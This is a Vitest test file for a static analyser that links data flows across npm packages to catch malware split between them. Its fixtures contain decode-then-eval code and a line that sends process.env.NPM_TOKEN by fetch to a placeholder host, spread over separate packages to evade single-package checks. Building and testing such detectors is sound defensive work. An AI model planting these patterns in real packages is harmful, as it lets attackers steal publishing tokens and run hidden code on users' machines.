// Flows across packages.
import { describe, expect, test } from 'vitest'
import { emptyFileCode, type FileCode } from '../../../src/code/file-code.ts'
import { findFlows } from '../../../src/code/flows/find-flows.ts'
import { linkFlows } from '../../../src/code/flows/link-flows.ts'
import { type LinkedPackage, linkPackages } from '../../../src/code/flows/link-packages.ts'
import { parseSource } from '../../../src/code/parse.ts'
import { createResolver } from '../../../src/code/resolver.ts'

function packageOf(name: string, sources: Readonly<Record<string, string>>): LinkedPackage {
  const files = new Map<string, FileCode>()
  for (const [path, source] of Object.entries(sources)) {
    const { flows, exports, calls } = findFlows(createResolver(parseSource(path, source).program), path, source)
    files.set(path, { ...emptyFileCode, flows, exports, calls })
  }
  const resolve = (_: string, specifier: string) => (files.has(specifier.slice(2)) ? specifier.slice(2) : '')
  return {
    files,
    resolve,
    entry: (specifier) => (specifier === name ? 'index.js' : ''),
    outside: (_, specifier) => specifier,
  }
}

const shown = (flows: ReturnType<typeof linkFlows>) =>
  flows.map(({ flow }) => `${flow.source} ${flow.subject || '-'} ${flow.sink}`)

describe('packages together', () => {
  const decoder = packageOf('un-code', {
    'index.js': "module.exports = require('./low.js')",
    'low.js': "exports.open = (text) => Buffer.from(text, 'base64').toString()",
  })
  const runner = packageOf('@a/run', { 'index.js': 'exports.run = (line) => eval(line)' })
  const user = packageOf('user', {
    'index.js': "const { open } = require('un-code')\nimport('@a/run')\nrequire('@a/run').run(open(globalThis.data))",
  })

  test('have flows that none has alone', () => {
    expect(shown(linkPackages([decoder, runner, user]))).toEqual(['decoded - evaluate'])
    expect(shown(linkPackages([decoder, user]))).toEqual([])
    expect(shown(linkPackages([runner, user]))).toEqual([])
    for (const { files, resolve } of [decoder, runner, user]) expect(linkFlows(files, resolve)).toEqual([])
  })

  test('leave out what one of them has by itself', () => {
    const alone = packageOf('alone', {
      'index.js': "const { open } = require('./low.js')\neval(open(globalThis.data))",
      'low.js': "exports.open = (text) => Buffer.from(text, 'base64').toString()",
    })
    expect(shown(linkFlows(alone.files, alone.resolve))).toEqual(['decoded - evaluate'])
    expect(linkPackages([alone])).toEqual([])
  })

  test('a secret is read in one and sent in the other, whose result nobody uses', () => {
    const sender = packageOf('send-it', {
      'index.js': "module.exports = (x) => { fetch('https://example.test/' + x) }",
    })
    const reader = packageOf('reader', { 'index.js': "import send from 'send-it'\nsend(process.env.NPM_TOKEN)" })
    expect(shown(linkPackages([sender, reader]))).toEqual(['secret NPM_TOKEN network'])
  })
})
